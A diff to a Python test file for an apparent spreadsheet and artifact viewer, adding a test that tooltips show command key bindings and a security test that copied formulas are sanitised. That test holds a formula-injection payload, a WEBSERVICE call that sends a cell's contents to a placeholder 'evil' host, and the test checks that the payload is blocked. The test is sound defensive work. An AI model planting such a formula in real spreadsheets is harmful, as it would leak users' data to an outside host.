@@ -22,6 +22,7 @@ from forgeapp.ui.artifact.preview import MAX_ROWS, Preview, shortened
 from forgeapp.ui.artifact.source import SourceView, source_of
 from forgeapp.ui.artifact.tiles import DropMark
 from forgeapp.ui.artifact.toolbar import VersionButton
+from forgeapp.ui.commands import keys_of
 from forgeapp.ui.controls import Button, SegmentedControl
 from forgeapp.ui.richtext import BlocksView
 from forgeapp.ui.workbench.live_turn import LiveTurn
@@ -184,6 +185,25 @@ def test_the_source_of_a_workbook_shows_formulas_in_columns_and_copies_cells() -
     assert source.shown == "   A\n1  2\n2  3\n3  =SUM(A1:A2)"
     assert source.copied == "2\n3\n=SUM(A1:A2)"
     assert '"A3": "=SUM(A1:A2)"' in source_of(SUMS, "json").shown
+
+
+@pytest.mark.security
+def test_copied_formulas_hold_nothing_that_exports_refuse() -> None:
+    evil = '=WEBSERVICE("http://evil/"&A1)'
+    cells = {(0, 0): Cell("=1+1", None, "@"), (0, 1): Cell(evil), (0, 2): Cell("=A1&1"), (0, 3): Cell("-5", -5)}
+    source = source_of(Workbook(None, (Sheet("S", cells),)), "formulas")
+    assert source.copied == "'=1+1\t#BLOCKED!\t=A1&1\t-5"
+    assert evil in source.shown
+
+
+def test_the_toolbar_names_the_keys_of_the_commands(bench: PaneBench) -> None:
+    bench.open(CREW)
+    toolbar = bench.pane.toolbar
+    assert toolbar.undo.toolTip().endswith(keys_of("edit.undo"))
+    assert toolbar.redo.toolTip().endswith(keys_of("edit.redo"))
+    assert toolbar.export.toolTip().endswith(keys_of("artifact.export"))
+    with pytest.raises(KeyError):
+        keys_of("edit.nothing")
 
 
 def test_csv_shown_as_source_runs_nothing_where_it_is_pasted() -> None:
